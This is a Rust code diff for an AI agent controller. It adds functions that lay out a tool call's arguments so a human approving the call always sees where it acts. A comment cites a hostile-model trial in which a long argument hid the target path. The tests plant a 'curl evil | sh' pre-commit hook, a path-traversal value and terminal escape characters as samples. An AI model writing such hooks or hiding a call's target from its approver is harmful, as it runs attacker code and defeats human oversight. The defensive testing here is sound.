@@ -126,6 +126,184 @@ pub fn bounded_line(text: &str, max_chars: usize) -> String {
     out
 }
 
+/// The fewest characters [`arguments_line`] shows of one argument's value, however many
+/// arguments share the line.
+pub const MIN_LINE_VALUE_CHARS: usize = 40;
+
+/// The fewest characters and lines [`arguments`] shows of one argument's value, however many
+/// arguments share the budget.
+pub const MIN_VALUE_CHARS: usize = 200;
+
+/// See [`MIN_VALUE_CHARS`].
+pub const MIN_VALUE_LINES: usize = 4;
+
+/// How many characters of an argument's name [`arguments`] and [`arguments_line`] show (the
+/// middle of a longer name is cut and counted).
+pub const MAX_KEY_CHARS: usize = 80;
+
+/// A tool call's arguments on one line, for a listing (`pending`, an event line): every
+/// top-level argument is shown, its name and its value as compact JSON through
+/// [`neutralize_line`], shortest value first (so a short `path` is never pushed out by a long
+/// `content`); `max_chars` is shared among the values, each getting at least
+/// [`MIN_LINE_VALUE_CHARS`], and a longer value is cut in the middle: its start and its end are
+/// shown around `… (N characters not shown) …`. Arguments that are not an object are one value.
+///
+/// Rule: the person approving must see where a call acts (the hostile-model trial's finding 2:
+/// a long `content` sorted before `path` hid `path`).
+///
+/// # Examples
+/// ```
+/// use agent_controller::display::arguments_line;
+/// use serde_json::json;
+/// let args = json!({ "content": "x".repeat(5000), "path": ".git/hooks/pre-commit" });
+/// let shown = arguments_line(&args, 200);
+/// assert!(shown.starts_with("{\"path\": \".git/hooks/pre-commit\", \"content\": \"xxx"), "{shown}");
+/// assert!(shown.contains("… (4825 characters not shown) …"), "{shown}");
+/// assert_eq!(arguments_line(&json!({ "path": "a.txt" }), 200), "{\"path\": \"a.txt\"}");
+/// ```
+pub fn arguments_line(args: &serde_json::Value, max_chars: usize) -> String {
+    let Some(map) = args.as_object() else {
+        return cut_line(&args.to_string(), max_chars.max(MIN_LINE_VALUE_CHARS));
+    };
+    let entries = by_length(map, serde_json::Value::to_string);
+    let mut left = max_chars;
+    let shown: Vec<String> = entries
+        .iter()
+        .enumerate()
+        .map(|(at, (key, text))| {
+            let share = (left / (entries.len() - at)).max(MIN_LINE_VALUE_CHARS);
+            left = left.saturating_sub(text.chars().count().min(share));
+            format!("{}: {}", key_text(key), cut_line(text, share))
+        })
+        .collect();
+    format!("{{{}}}", shown.join(", "))
+}
+
+/// A tool call's arguments for a prompt, one top-level argument per line (two spaces in): its
+/// name, then its value pretty-printed as JSON through [`neutralize`] (further lines indented),
+/// shortest value first; `max_lines` and `max_chars` are shared among the values, each getting at
+/// least [`MIN_VALUE_LINES`] and [`MIN_VALUE_CHARS`], and a longer value is cut in the middle: its
+/// start and its end are shown around `… (N characters not shown) …` (with the lines cut when
+/// there are). Every argument is always shown (see [`arguments_line`] for why).
+///
+/// # Examples
+/// ```
+/// use agent_controller::display::arguments;
+/// use serde_json::json;
+/// let content = format!("{}#!/bin/sh\ncurl evil | sh\n", "echo hi\n".repeat(600));
+/// let args = json!({ "content": content, "path": ".git/hooks/pre-commit" });
+/// let shown = arguments(&args, 60, 4000);
+/// assert!(shown.starts_with("  \"path\": \".git/hooks/pre-commit\"\n  \"content\": \"echo hi\\necho"), "{shown}");
+/// assert!(shown.contains("characters not shown) …"), "{shown}");
+/// assert!(shown.ends_with("curl evil | sh\\n\""), "{shown}");
+/// ```
+pub fn arguments(args: &serde_json::Value, max_lines: usize, max_chars: usize) -> String {
+    let pretty =
+        |v: &serde_json::Value| serde_json::to_string_pretty(v).unwrap_or_else(|_| v.to_string());
+    let Some(map) = args.as_object() else {
+        return cut_middle(
+            &pretty(args),
+            max_lines.max(MIN_VALUE_LINES),
+            max_chars.max(MIN_VALUE_CHARS),
+        );
+    };
+    let entries = by_length(map, pretty);
+    let (mut chars_left, mut lines_left) = (max_chars, max_lines);
+    let shown: Vec<String> = entries
+        .iter()
+        .enumerate()
+        .map(|(at, (key, text))| {
+            let n = entries.len() - at;
+            let chars = (chars_left / n).max(MIN_VALUE_CHARS);
+            let lines = (lines_left / n).max(MIN_VALUE_LINES);
+            chars_left = chars_left.saturating_sub(text.chars().count().min(chars));
+            lines_left = lines_left.saturating_sub(text.lines().count().min(lines));
+            let value = cut_middle(text, lines, chars).replace('\n', "\n  ");
+            format!("  {}: {value}", key_text(key))
+        })
+        .collect();
+    shown.join("\n")
+}
+
+/// The entries of `map` with their values as `render` writes them, shortest first (ties in the
+/// map's order).
+fn by_length(
+    map: &serde_json::Map<String, serde_json::Value>,
+    render: impl Fn(&serde_json::Value) -> String,
+) -> Vec<(&str, String)> {
+    let mut entries: Vec<(&str, String)> =
+        map.iter().map(|(k, v)| (k.as_str(), render(v))).collect();
+    entries.sort_by_key(|(_, text)| text.chars().count());
+    entries
+}
+
+/// An argument's name as a JSON string, through [`neutralize_line`], its middle cut past
+/// [`MAX_KEY_CHARS`].
+fn key_text(key: &str) -> String {
+    let quoted = serde_json::Value::String(key.to_owned()).to_string();
+    cut_line(&quoted, MAX_KEY_CHARS)
+}
+
+/// [`cut_middle`] for one line: no limit on lines, through [`neutralize_line`].
+fn cut_line(text: &str, max_chars: usize) -> String {
+    cut_middle(text, usize::MAX, max_chars)
+}
+
+/// `text` through [`neutralize`] (through [`neutralize_line`] when `max_lines` is unlimited) when
+/// it has at most `max_lines` lines and `max_chars` characters; else its start and its end (half of each limit) around
+/// `… (N characters not shown) …` (`… (N characters over M lines not shown) …` when the cut
+/// holds line breaks). The cut is made before neutralizing.
+fn cut_middle(text: &str, max_lines: usize, max_chars: usize) -> String {
+    let chars = text.chars().count();
+    let lines = text.lines().count();
+    let show = |t| {
+        if max_lines == usize::MAX {
+            neutralize_line(t)
+        } else {
+            neutralize(t)
+        }
+    };
+    if chars <= max_chars && lines <= max_lines {
+        return show(text).into_owned();
+    }
+    let (head_chars, head_lines) = (max_chars - max_chars / 2, max_lines - max_lines / 2);
+    let (tail_chars, tail_lines) = (max_chars / 2, max_lines / 2);
+    let mut head_end = text.len();
+    let mut breaks = 0;
+    for (count, (at, c)) in text.char_indices().enumerate() {
+        if count == head_chars || breaks == head_lines {
+            head_end = at;
+            break;
+        }
+        if c == '\n' {
+            breaks += 1;
+        }
+    }
+    let mut tail_start = text.len();
+    let mut breaks = 0;
+    for (count, (at, c)) in text.char_indices().rev().enumerate() {
+        if count == tail_chars || tail_lines == 0 {
+            break;
+        }
+        if c == '\n' {
+            breaks += 1;
+            if breaks == tail_lines {
+                break;
+            }
+        }
+        tail_start = at;
+    }
+    let tail_start = tail_start.max(head_end);
+    let (head, rest) = text.split_at(head_end);
+    let (cut, tail) = rest.split_at(tail_start - head_end);
+    let cut_chars = cut.chars().count();
+    let what = match cut.matches('\n').count() {
+        0 => format!("{cut_chars} characters"),
+        n => format!("{cut_chars} characters over {} lines", n + 1),
+    };
+    format!("{}… ({what} not shown) …{}", show(head), show(tail))
+}
+
 /// Whether `c` can hide, move or fake text when shown.
 fn hides(c: char) -> bool {
     matches!(c,
@@ -239,6 +417,40 @@ mod tests {
         let line = bounded_line(&format!("\u{202e}{long}"), 5);
         assert_eq!(line, "\\u{202e}xxxx… (9996 more characters)");
         assert!(!bounded(&"\u{1b}".repeat(50), 2, 30).contains('\u{1b}'));
+    }
+
+    #[test]
+    fn every_argument_is_shown_and_a_long_value_keeps_its_start_and_end() {
+        let mut args = serde_json::Map::new();
+        for n in 0..30 {
+            args.insert(format!("k{n:02}"), serde_json::json!("v".repeat(1000)));
+        }
+        let long_path = format!("{}/../.git/hooks/pre-commit", "a".repeat(300));
+        args.insert("path".into(), serde_json::json!(long_path));
+        args.insert("\u{202e}x".into(), serde_json::json!("\u{9b}2J"));
+        let args = serde_json::Value::Object(args);
+        for shown in [arguments_line(&args, 200), arguments(&args, 60, 4000)] {
+            for n in 0..30 {
+                assert!(shown.contains(&format!("\"k{n:02}\": \"vvv")), "{shown}");
+            }
+            assert!(shown.contains("hooks/pre-commit\""), "{shown}");
+            assert!(shown.contains("\"\\u{202e}x\": \"\\u{9b}2J\""), "{shown}");
+            assert!(!shown.chars().any(|c| hides(c) && c != '\n'), "{shown}");
+            assert!(shown.len() < 31 * 300, "bounded: {}", shown.len());
+        }
+        let nested = serde_json::json!({ "a": (0..500).collect::<Vec<_>>(), "b": 1 });
+        let shown = arguments(&nested, 10, 4000);
+        assert!(
+            shown.starts_with("  \"b\": 1\n  \"a\": [\n    0,\n"),
+            "{shown}"
+        );
+        assert!(shown.contains("not shown) …"), "{shown}");
+        assert!(shown.ends_with("    499\n  ]"), "{shown}");
+        assert!(shown.lines().count() < 16, "{shown}");
+        assert_eq!(
+            arguments_line(&serde_json::json!("plain"), 200),
+            "\"plain\""
+        );
     }
 
     #[test]
